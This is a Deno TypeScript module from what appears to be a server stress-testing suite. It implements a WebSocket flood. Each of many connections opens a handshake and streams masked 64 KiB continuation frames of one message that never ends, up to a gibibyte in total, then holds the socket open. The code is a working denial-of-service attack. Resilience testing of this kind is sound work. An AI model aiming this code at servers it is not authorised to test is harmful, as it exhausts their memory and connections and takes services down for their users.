/**
 * WebSockets that each send one endless text message: a first frame and continuation frames of 64
 * KiB (RFC 6455 section 5.4), at most a gibibyte from all sockets together.
 *
 * @module
 */

import { utf8 } from "../../../src/base/bytes.ts";
import { systemClock } from "../../../src/base/clock.ts";
import { type Attack, repeat, type Tally } from "../attack.ts";

const FRAME_BYTES = 64 * 1024;
/** Frames of one write. */
const FRAMES = 16;
const MOST_BYTES = 2 ** 30;
const RETRY_MS = 100;
const TEXT = 1;
const CONTINUATION = 0;
/** The second byte of a masked frame whose length is in the next eight. */
const MASKED_LONG = 0x80 | 127;
const HEAD_BYTES = 14;

/** Bytes that the sockets may still send. */
interface Supply {
  bytes: number;
}

export const socketFlood: Attack = async ({ socketUrl, connections }, tally, signal) => {
  const supply = { bytes: MOST_BYTES };
  await repeat(connections, signal, () => flood(new URL(socketUrl), supply, tally, signal));
};

async function flood(url: URL, supply: Supply, tally: Tally, signal: AbortSignal): Promise<void> {
  tally.sent++;
  try {
    using connection = await Deno.connect({ hostname: url.hostname, port: Number(url.port) });
    const onAbort = () => connection.close();
    signal.addEventListener("abort", onAbort);
    try {
      if (!await isUpgraded(connection, url)) {
        tally.refused++;
        await systemClock.sleep(RETRY_MS);
        return;
      }
      tally.accepted++;
      await writeWhole(connection, frame(TEXT));
      const frames = new Uint8Array(FRAMES * (HEAD_BYTES + FRAME_BYTES));
      for (let i = 0; i < FRAMES; i++) frames.set(frame(CONTINUATION), i * frames.length / FRAMES);
      while (supply.bytes > 0) {
        supply.bytes -= frames.length;
        await writeWhole(connection, frames);
      }
      // The message stays unfinished.
      while (await connection.read(new Uint8Array(1_024)) !== null);
    } finally {
      signal.removeEventListener("abort", onAbort);
    }
  } catch {
    if (!signal.aborted) await systemClock.sleep(RETRY_MS);
  }
}

async function isUpgraded(connection: Deno.TcpConn, url: URL): Promise<boolean> {
  await connection.write(utf8(upgradeRequest(url)));
  const head = new Uint8Array(4_096);
  const length = await connection.read(head) ?? 0;
  return new TextDecoder().decode(head.subarray(0, length)).startsWith("HTTP/1.1 101");
}

/** The opening handshake for `url`. */
export function upgradeRequest(url: URL): string {
  return [
    `GET ${url.pathname}${url.search} HTTP/1.1`,
    `Host: ${url.host}`,
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "",
    "",
  ].join("\r\n");
}

/** A masked frame without FIN. The masking key is 0, so that the content is unchanged. */
function frame(opcode: number): Uint8Array {
  const bytes = new Uint8Array(HEAD_BYTES + FRAME_BYTES).fill(0x61, HEAD_BYTES);
  bytes.set([opcode, MASKED_LONG]);
  new DataView(bytes.buffer).setBigUint64(2, BigInt(FRAME_BYTES));
  return bytes;
}

async function writeWhole(connection: Deno.TcpConn, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
}
